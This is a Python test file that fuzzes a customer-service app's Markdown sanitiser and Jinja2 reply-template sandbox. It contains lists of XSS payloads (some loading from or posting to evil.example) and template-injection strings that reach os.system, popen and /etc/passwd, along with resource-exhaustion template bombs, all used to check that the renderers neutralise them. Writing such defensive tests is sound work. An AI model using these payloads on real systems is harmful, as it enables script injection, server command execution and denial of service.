"""Hostile and random input to the two renderers: Markdown (sanitised with nh3) and reply-script placeholders
(Jinja2's sandbox). Neither may crash, run script, reach Python internals or load anything remote."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=http://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.png">',
    "![跟踪像素](http://evil.example/t.png)",
    "![内嵌](data:image/png;base64,iVBORw0KGgo=)",
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](jav&#x09;ascript:alert(1))",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="http://ok.example" onclick="steal()">ok</a>',
    "<iframe src=http://evil.example></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    '<div style="background:url(http://evil.example/x)">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<form action=http://evil.example><input name=p></form>",
    "<base href=http://evil.example/>",
    "<video poster=http://evil.example/p.png><source src=http://evil.example/v.mp4></video>",
    '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<a href="http://evil.example/" target="_self" rel="opener">x</a>',
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_safe(rendered: str) -> None:
    parser = _Collector()
    parser.feed(rendered)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived"
        assert tag not in {"script", "img", "iframe", "style", "object", "embed", "link", "meta", "base", "form"}
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"event handler {name} survived"
            assert name.lower() not in {"src", "style", "srcset", "background", "poster", "action", "formaction"}
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or (tag == "a" and name == "rel")
            if name == "href" and value:
                target = html.unescape(value).strip().lower().replace("\t", "").replace("\n", "")
                # RFC 3986: an ASCII letter, then letters, digits, + - . ("0:x" or "À:x" is a relative path, found
                # by tests/test_fuzz_hostile.py)
                found = re.match(r"([a-z][a-z0-9+.-]*):", target)
                scheme = found.group(1) if found else ""
                assert scheme in ("", "http", "https", "mailto"), f"href scheme {scheme!r} survived"
    # No raw script tag anywhere. "javascript:" may appear as escaped text (an indented line is a code block:
    # Hypothesis found '\t<a href="  javascript:…">' shown as code); in attributes it is caught above.
    assert "<script" not in rendered.lower()


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_known_attack_is_neutralised(attack):
    assert_safe(render_markdown(attack))
    assert_safe(render_markdown(f"# 标题\n\n正文 {attack} 结尾\n\n- 列表 {attack}\n\n| 表 | 头 |\n|---|---|\n| {attack} | x |"))


def test_safe_content_survives():
    out = render_markdown("**退款**说明：[帮助中心](https://help.example.com/refund)\n\n1. 第一步\n2. 第二步")
    assert "<strong>退款</strong>" in out and 'href="https://help.example.com/refund"' in out
    assert "<ol>" in out and "noopener" in out


markdown_noise = st.text(
    alphabet=st.sampled_from(list("<>/\"'=:;&#()[]!`*_-|\\\n\t aAsScCrRiIpPtTjJvVoOnNeElLgGfFhHmMxX退款客服1")),
    max_size=120,
)


@FUZZ
@given(st.lists(st.one_of(st.sampled_from(ATTACKS), markdown_noise, st.text(max_size=40)), max_size=6))
def test_random_and_hostile_markdown_never_crashes_and_stays_safe(parts):
    assert_safe(render_markdown("".join(parts)))
    assert_safe(render_markdown("\n\n".join(parts)))


# --- placeholders (reply scripts) ------------------------------------------------------------------------------
placeholders_module = pytest.importorskip("app.templates.placeholders")
TemplateProblem = placeholders_module.TemplateProblem
render_template = placeholders_module.render
template_placeholders = placeholders_module.placeholders

HOSTILE_TEMPLATES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__mro__[-1].__subclasses__() }}",
    "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.system('touch {canary}') }}",
    "{{ joiner.__init__.__globals__.os.popen('touch {canary}').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].system('touch {canary}') }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ 客户姓名.__class__ }}",
    "{{ 客户姓名.__class__.__init__.__globals__ }}",
    "{{ '{0.__class__}'.format(客户姓名) }}",
    "{{ '%s'.__mod__ }}",
    "{{ 客户姓名|attr('__class__') }}",
    "{{ (客户姓名|attr('__class__')).__mro__ }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% set x = cycler.__init__ %}{{ x.__globals__ }}",
    "{{ range.__self__ }}",
    "{{ dict.__subclasses__() }}",
    "{{ 客户姓名.format_map }}",
    "{{ config }}{{ request }}{{ settings }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
]
# Signs of Python internals in the output. (A bare callable's repr, e.g. "<function str.format_map …>" for
# ``{{ x.format_map }}``, is harmless noise and not listed; the sandbox wraps it.)
LEAKS = ("<class", "<module", "<built-in", "__builtins__", "__name__", "subclasses", "posix", "os.system")


@pytest.mark.parametrize("template", HOSTILE_TEMPLATES)
def test_hostile_templates_reach_no_python_internals(template, tmp_path):
    canary = tmp_path / "pwned"
    source = template.replace("{canary}", str(canary))
    try:
        filled = render_template(source, {"客户姓名": "王女士"})
    except TemplateProblem as problem:
        assert str(problem)  # refused with a message, as a TemplateProblem (not a crash)
    else:
        for leak in LEAKS:
            assert leak not in filled.text, f"{leak!r} leaked from {template!r}: {filled.text[:120]!r}"
        assert "root:" not in filled.text  # no file was read
    assert not canary.exists(), "a hostile template ran a command"


template_fragments = st.one_of(
    st.text(max_size=15),
    st.sampled_from([
        "{{ 客户姓名 }}", "{{ 时限 | default('24小时') }}", "{{ 工单号|upper }}", "{% if 客户姓名 %}您好{% endif %}",
        "{% for s in 步骤 %}{{ s }}；{% endfor %}", "{{", "}}", "{%", "%}", "{#", "#}", "{{ }}", "{{ 1/0 }}",
        "{{ 客户姓名|int }}", "{{ 客户姓名[0] }}", "{{ 客户姓名.x.y }}", "{{ 步骤|join('、') }}", "{{ '%d' % 客户姓名 }}",
        "{{ 客户姓名|truncate(3) }}", "{% raw %}{{ x }}{% endraw %}", "{{ 客户姓名 ~ 时限 }}", "{% set a = 1 %}{{ a }}",
        "{{ 客户姓名|default }}", "{{ range(3)|list }}", "{{ 步骤[5] }}", "{{ none.x }}", "\n", "【客户姓名】",
        "\ue000", "\ue001", "{{ 客户姓名 | replace('王', '\ue000') }}",
    ]),
)
values = st.dictionaries(
    st.sampled_from(["客户姓名", "时限", "工单号", "步骤", "x"]),
    st.one_of(st.text(max_size=10), st.integers(), st.lists(st.text(max_size=5), max_size=3), st.none()),
    max_size=5,
)


@FUZZ
@given(st.lists(template_fragments, max_size=8), values)
def test_random_templates_render_or_refuse_with_a_template_problem(parts, given_values):
    source = "".join(parts)
    try:
        asked = template_placeholders(source)
        filled = render_template(source, given_values)
    except TemplateProblem as problem:
        assert str(problem)
        return
    assert isinstance(filled.text, str)
    assert "\ue000" not in filled.text or "\ue000" in source or any("\ue000" in str(v) for v in given_values.values())
    for span in filled.missing_spans:  # every marker sits where it says
        assert filled.text[span.start : span.end] == f"【{span.name}】"
    assert all(p.name for p in asked)


RESOURCE_BOMBS = [
    "{{ 'a' * 10**9 }}",
    "{{ (客户姓名 * 100000) * 100000 }}",
    "{{ 10 ** (10 ** 10) }}",
    "{{ 9 ** 99999999 }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{{ '' }}{% endfor %}{% endfor %}",
    "{{ 'a'|center(1000000000) }}",
    "{{ 客户姓名|indent(1000000000, true) }}",
    "{{ '%1000000000s'|format('a') }}",
    "{{ '%1000000000s' % 'a' }}",
    "{{ '{:>1000000000}'.format('a') }}",
    "{{ 'a'.ljust(1000000000) }}",
    "{{ 'a'" + "|replace('a', 'aaaaaaaaaa')" * 9 + " }}",
    "{% set ns = namespace(s='a') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
    "{{ range(100000)|list|join(',')|length }}{{ (range(99999)|list) * 100000 }}",
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("template", RESOURCE_BOMBS)
def test_resource_bombs_are_refused_quickly(template):
    """A template from someone's file must not freeze or exhaust the app (the plain sandbox allowed all of these)."""
    import time

    started = time.monotonic()
    with pytest.raises(TemplateProblem):
        render_template(template, {"客户姓名": "王女士"})
    assert time.monotonic() - started < 5


def test_ordinary_scripts_still_render_within_the_limits():
    source = (
        "{{ 客户姓名 }}您好，针对您提到的{{ 问题 }}，我们已确认原因是{{ 原因 }}，计划通过"
        "{% for s in 步骤 %}{{ loop.index }}. {{ s }}；{% endfor %}解决，预计{{ 时限|default('24小时') }}完成。"
        "{{ '%s' % 客户姓名 }}{{ '{0}'.format(工单号) }}{{ '-' * 20 }}{{ 客户姓名|center(20) }}"
    )
    filled = render_template(source, {"客户姓名": "王女士", "问题": "登录失败", "原因": "密码过期", "步骤": ["重置", "回访"], "工单号": "A-1"})
    assert filled.complete and "1. 重置；2. 回访；" in filled.text and "-" * 20 in filled.text


def test_an_indented_link_is_shown_as_code_and_never_becomes_a_link():
    rendered = render_markdown('\t<a href="  javascript:alert(1)">x</a>')
    assert_safe(rendered)
    assert "<a" not in rendered and "&lt;a href=" in rendered
